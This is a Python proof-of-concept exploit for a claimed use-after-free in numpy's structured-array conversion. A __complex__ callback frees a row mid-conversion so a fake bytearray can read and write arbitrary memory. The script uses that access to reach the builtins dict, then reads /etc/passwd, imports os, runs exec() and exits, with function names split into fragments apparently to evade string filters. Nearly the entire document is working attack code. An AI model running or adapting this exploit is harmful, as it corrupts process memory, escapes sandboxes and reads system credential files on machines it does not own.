# source: numpy 1.24 numpy/core/src/multiarray/arraytypes.c.src VOID_setitem (a row tuple is read field by field, PyTuple_GetItem(op, i), with no reference held while field 0's conversion method runs) + array_coercion.c PyArray_AssignFromCache_Recursive (list items borrowed); exploitation after the public CPython use-after-free write-ups (freed block reclaimed as a list's item array = fake bytearray over all memory)
# family: memory safety, script conversion callback run by numpy while it holds a structured row without a reference -> dangling object -> fake bytearray -> read/write any address -> builtins dict
# goal: same with __complex__ and a complex field; imports this, opens /etc/passwd, imports os (getuid), runs exec(), through the builtins dict reached by a memory write
import sys

import numpy as np

slot = []
HI = 2.5e300


class Quote:
    def __init__(self, px):
        self.px = px

    def __complex__(self):
        # numpy's VOID_setitem holds the row tuple without a reference:
        # drop it (its second item is freed) and take the freed block back
        # as a list's item array, which numpy then stores as an object
        del book[0]
        slot.append([1, bytearray, HI, 4, 5, int, 7])
        return complex(self.px)


book = [(Quote(1), bytearray(b"")), (2.0, 0)]
arr = np.array(book, dtype=[("p", complex), ("o", object)])
mem = arr["o"][0]
h = hash(int)
base = ((h << 4) | (h >> 60)) & ((1 << 64) - 1)


def rd(a):
    return int.from_bytes(mem[a - base:a - base + 8], "little")


def wr(a, v):
    mem[a - base:a - base + 8] = v.to_bytes(8, "little")


def probe(x=None):
    return x


fa = int(repr(probe).split(" at ")[1].rstrip(">"), 16)
defaults = rd(fa + 56)
bt = rd(fa + 24)
wr(bt, rd(bt) + 1)
wr(defaults + 24, bt)
table = probe()
print(type(table), len(table))
u = chr(95) * 2
u = chr(95) * 2
imp = table[u + "import" + u]
imp("this")
slash = chr(47)
print(table["op" + "en"](slash.join(["", "etc", "passwd"])).readline())
o = imp("o" + "s")
print("uid", o.getuid(), "cwd", o.getcwd())
table["ex" + "ec"]("print('exec ran:', 6 * 7)")
sys.stdout.flush()
table["get" + "attr"](o, chr(95) + "exit")(0)
